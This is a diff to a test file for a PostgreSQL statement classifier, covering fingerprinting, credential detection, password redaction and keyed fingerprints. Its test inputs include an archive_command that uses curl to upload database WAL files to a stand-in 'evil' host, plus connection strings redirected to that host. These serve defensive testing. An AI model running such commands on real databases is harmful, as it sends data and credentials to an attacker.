@@ -10,9 +10,9 @@ import {
   classifySql,
   fingerprint,
   initClassifier,
-  namesCredential,
-  conninfoWithoutPassword,
 } from '../../protocols/postgres/classify.js';
+import { namesCredential, withoutArguments, withoutPassword } from '../../protocols/postgres/credentials.js';
+import { useFingerprintKey } from '../../src/policy/fingerprint-key.js';
 import { DANGEROUS_FUNCTIONS, isDangerousFunction } from '../../protocols/postgres/dangerous-functions.js';
 import { UNKNOWN_SETTING, type SqlStatementFacts } from '../../src/policy/types.js';
 
@@ -377,10 +377,10 @@ t.test('fingerprint: constants, whitespace, case and comments do not matter; ide
     fp("CREATE USER MAPPING FOR app SERVER remote OPTIONS (user 'a', password 'y')"),
     "a user mapping's password neither",
   );
-  t.equal(fp("CREATE SUBSCRIPTION s CONNECTION 'host=h password=x' PUBLICATION p"), fp("CREATE SUBSCRIPTION s CONNECTION 'host=h password=y' PUBLICATION p"), "nor a subscription's");
-  t.not(fp("CREATE SUBSCRIPTION s CONNECTION 'host=h password=x' PUBLICATION p"), fp("CREATE SUBSCRIPTION s CONNECTION 'host=evil password=x' PUBLICATION p"), 'its host counts');
-  t.equal(fp("SELECT dblink_connect('postgresql://u:x@h/db')"), fp("SELECT dblink_connect('postgresql://u:y@h/db')"), "nor a dblink connection string's");
+  // A connection string is kept whole (what follows its password may point it elsewhere), behind the key.
+  t.not(fp("CREATE SUBSCRIPTION s CONNECTION 'host=h password=x' PUBLICATION p"), fp("CREATE SUBSCRIPTION s CONNECTION 'host=h password=x host=evil' PUBLICATION p"));
   t.not(fp("SELECT dblink_connect('postgresql://u:x@h/db')"), fp("SELECT dblink_connect('postgresql://u:x@evil/db')"));
+  t.not(fp("ALTER SYSTEM SET archive_command = 'curl -T %p https://u:a@backup/%f'"), fp("ALTER SYSTEM SET archive_command = 'curl -T %p https://u:b@evil/%f'"));
   // a multi-statement member fingerprints like the same statement sent alone
   t.equal(fingerprint(classifySql('SELECT 1; SELECT * FROM users WHERE id = 7')[1]!), a);
 });
@@ -398,21 +398,38 @@ t.test('namesCredential: the statements whose text may hold a password', async (
     "ALTER SUBSCRIPTION s CONNECTION 'postgresql://u:x@h/db'",
     "SELECT dblink_connect('c', 'host=h password=x')",
     "SELECT * FROM public.dblink('host=h password=x', 'select 1') AS t(a int)",
+    "ALTER SYSTEM SET primary_conninfo = 'host=h password=x'",
+    "DO $$ BEGIN PERFORM dblink_connect('host=h password=x'); END $$",
+    "CREATE FUNCTION f() RETURNS text AS $$ SELECT dblink_connect('postgresql://u:x@h/db') $$ LANGUAGE sql",
+    "PREPARE c(text) AS SELECT dblink_connect($1)",
   ]) {
     t.ok(names(sql), sql);
   }
-  for (const sql of ['SELECT password FROM users', "UPDATE users SET password = 'x'", 'DROP USER MAPPING FOR app SERVER remote', 'CREATE TABLE t (password text)', 'DROP SUBSCRIPTION s']) {
+  for (const sql of ['SELECT password FROM users', "UPDATE users SET password = 'x'", 'DROP USER MAPPING FOR app SERVER remote', 'CREATE TABLE t (password text)', 'DROP SUBSCRIPTION s', "ALTER SYSTEM SET work_mem = '64MB'", 'DO $$ BEGIN PERFORM 1; END $$', "EXECUTE c('x')"]) {
     t.notOk(names(sql), sql);
   }
 });
 
-t.test('conninfoWithoutPassword: the password of a connection string, keyword or URI form', async (t) => {
-  t.equal(conninfoWithoutPassword('host=h password=x dbname=d'), 'host=h password=[password] dbname=d');
-  t.equal(conninfoWithoutPassword("host=h password = 'x y\\' z' dbname=d"), 'host=h password = [password] dbname=d');
-  t.equal(conninfoWithoutPassword('postgresql://u:x@h:5432/db?sslmode=require'), 'postgresql://u:[password]@h:5432/db?sslmode=require');
-  t.equal(conninfoWithoutPassword('postgres://h/db?password=x&sslmode=require'), 'postgres://h/db?password=[password]');
-  t.equal(conninfoWithoutPassword('postgresql://u@h/db'), 'postgresql://u@h/db', 'no password: unchanged');
-  t.equal(conninfoWithoutPassword('reporting'), 'reporting');
+t.test('withoutPassword: a statement is shown up to its first password, keyword or URI form', async (t) => {
+  t.equal(withoutPassword("ALTER ROLE r PASSWORD 'x'"), 'ALTER ROLE r PASSWORD [redacted]');
+  t.equal(withoutPassword("SELECT dblink_connect('host=h sslpassword=x password=y')"), "SELECT dblink_connect('host=h sslpassword [redacted]");
+  t.equal(withoutPassword("ALTER SUBSCRIPTION s CONNECTION 'postgresql://u:p#ss?w rd@h/db'"), "ALTER SUBSCRIPTION s CONNECTION 'postgresql://u: [redacted]", 'a URI password may hold # ? and spaces');
+  t.equal(withoutPassword("SELECT dblink('postgres://h/db?p%61ssword=x', 'select 1')"), "SELECT dblink('postgres://h/db? [redacted]", 'a percent-encoded query is withheld');
+  t.equal(withoutPassword("ALTER USER MAPPING FOR a SERVER s OPTIONS (SET oauth_client_secret 'x')"), 'ALTER USER MAPPING FOR a SERVER s OPTIONS (SET oauth_client_secret [redacted]');
+  t.equal(withoutPassword("SELECT dblink_connect('postgresql://u@h/db')"), "SELECT dblink_connect('postgresql://u@h/db')", 'no password: unchanged');
+  t.equal(withoutArguments("EXECUTE c('host=h', 'secret')"), 'EXECUTE c( [redacted]');
+});
+
+t.test('fingerprints are keyed: the approvals API shows them, and nobody can recompute one', async (t) => {
+  const sql = "CREATE USER MAPPING FOR app SERVER remote OPTIONS (user 'a', password 'x')";
+  useFingerprintKey(Buffer.alloc(32, 1));
+  const one1 = fingerprint(one(sql));
+  t.equal(fingerprint(one(sql)), one1, 'the same key, the same fingerprint');
+  useFingerprintKey(Buffer.alloc(32, 2));
+  t.not(fingerprint(one(sql)), one1, 'another key, another fingerprint');
+  useFingerprintKey(Buffer.alloc(32, 1));
+  t.equal(fingerprint(one(sql)), one1, 'the first key again: the first fingerprint (a restart with the state dir\'s key)');
+  t.throws(() => useFingerprintKey(Buffer.alloc(8)), /32 bytes/);
 });
 
 t.test('cache: repeated text is a hit, results are frozen and shared', async (t) => {
